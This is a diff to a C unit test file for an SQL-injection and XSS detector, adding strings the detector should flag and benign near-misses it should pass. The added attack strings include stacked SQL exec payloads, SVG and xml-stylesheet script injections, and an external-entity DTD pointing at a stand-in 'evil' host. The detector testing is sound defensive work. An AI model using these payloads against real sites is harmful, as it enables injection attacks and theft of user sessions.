@@ -90,6 +90,11 @@ static void test_sqli_attacks(void **state)
 	    "' and email ilike email--",
 	    "1' into outfile '/tmp/x'--",
 	    "@@version",
+	    "1; exec(\'sel\'+\'ect 1\')",
+	    "x\'; EXEC(@q)--",
+	    "\'Execute(",
+	    "1; set @x=1",
+	    "id\'is not-id--",
 	    NULL,
 	};
 	expect_sqli(attacks, true);
@@ -119,6 +124,9 @@ static void test_sqli_benign(void **state)
 	    "shutdown",
 	    "24-7-TEAM",
 	    "order by phone",
+	    "exec (",
+	    "pay=;set @",
+	    "id\'is notes",
 	    NULL,
 	};
 	expect_sqli(benign, false);
@@ -144,6 +152,12 @@ static void test_xss_attacks(void **state)
 	    "x\" onmouseover=\"alert(1)",
 	    "q=javascript:alert(document.cookie)",
 	    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
+	    "<?xml-stylesheet href=\"javascript:alert(1)\"?><root/>",
+	    "<?xml-stylesheet type=\"text/xsl\" href=\"#\"?><x/>",
+	    "<!DOCTYPE x SYSTEM \"http://evil/x.dtd\"><x>&x;</x>",
+	    "<svg>",
+	    "<?xml version=\"1.0\"?><svg onload=\"alert(1)\"></svg>",
+	    "<?xml version=\"1.0\"?><svg><script>alert(1)</script></svg>",
 	    NULL,
 	};
 	expect_xss(attacks, true);
@@ -162,6 +176,9 @@ static void test_xss_benign(void **state)
 	    "/search?q=javascript+tutorial",
 	    "<?xml version=\"1.0\"?><root><a>1</a></root>",
 	    "x <3 y",
+	    "<?xml-stylesheet type=\"text/xsl\" href=\"style.xsl\"?>",
+	    "image=<?xml version=\"1.0\"?><svg></svg>",
+	    "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://www.w3.org/TR/xhtml1/DTD/x.dtd\">",
 	    NULL,
 	};
 	expect_xss(benign, false);
